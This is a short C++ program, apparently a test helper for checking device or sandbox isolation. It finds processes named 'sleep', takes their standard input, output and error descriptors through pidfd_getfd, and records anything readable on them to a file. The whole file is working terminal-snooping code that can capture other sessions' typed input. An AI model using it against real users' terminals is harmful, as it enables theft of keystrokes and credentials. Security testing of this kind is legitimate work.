// terminal_thief OUT SECONDS: a program left running in a device that takes
// the standard descriptors of every `sleep` started in the device (with
// pidfd_getfd, as any program of the same user may) and appends whatever it
// can read from them to OUT, until SECONDS have passed. OUT.log says which
// descriptors it took, and "done" at the end.
#include <fcntl.h>
#include <poll.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <set>
#include <string>
#include <thread>
#include <tuple>
#include <vector>

namespace fs = std::filesystem;

int main(int argc, char** argv) {
    if (argc < 3) return 2;
    const std::string out = argv[1];
    std::ofstream log(out + ".log");
    auto until = std::chrono::steady_clock::now() + std::chrono::seconds(std::atoi(argv[2]));
    std::set<std::tuple<dev_t, ino_t, dev_t>> seen;
    std::vector<int> taken;
    std::set<int> scanned;
    while (std::chrono::steady_clock::now() < until) {
        std::error_code ec;
        for (const auto& entry : fs::directory_iterator("/proc", ec)) {
            std::string name = entry.path().filename();
            if (name.find_first_not_of("0123456789") != std::string::npos) continue;
            int pid = std::atoi(name.c_str());
            if (pid == getpid() || scanned.count(pid)) continue;
            std::ifstream comm(entry.path() / "comm");
            std::string command;
            std::getline(comm, command);
            if (command != "sleep") continue;
            int pidfd = static_cast<int>(syscall(SYS_pidfd_open, pid, 0));
            if (pidfd < 0) continue;
            scanned.insert(pid);
            for (int fd = 0; fd <= 2; ++fd) {
                int got = static_cast<int>(syscall(SYS_pidfd_getfd, pidfd, fd, 0));
                if (got < 0) continue;
                struct stat st {};
                fstat(got, &st);
                if (!seen.insert({st.st_dev, st.st_ino, st.st_rdev}).second) {
                    close(got);
                    continue;
                }
                log << "took fd " << fd << " of sleep " << pid << std::endl;
                taken.push_back(got);
            }
            close(pidfd);
        }
        // Whatever is there to read, read without setting anything on the descriptor.
        for (int fd : taken) {
            pollfd p{fd, POLLIN, 0};
            if (poll(&p, 1, 0) <= 0 || !(p.revents & POLLIN)) continue;
            char buffer[4096];
            ssize_t n = read(fd, buffer, sizeof buffer);
            if (n > 0) std::ofstream(out, std::ios::app).write(buffer, n);
        }
        std::this_thread::sleep_for(std::chrono::milliseconds(5));
    }
    log << "done" << std::endl;
    return 0;
}
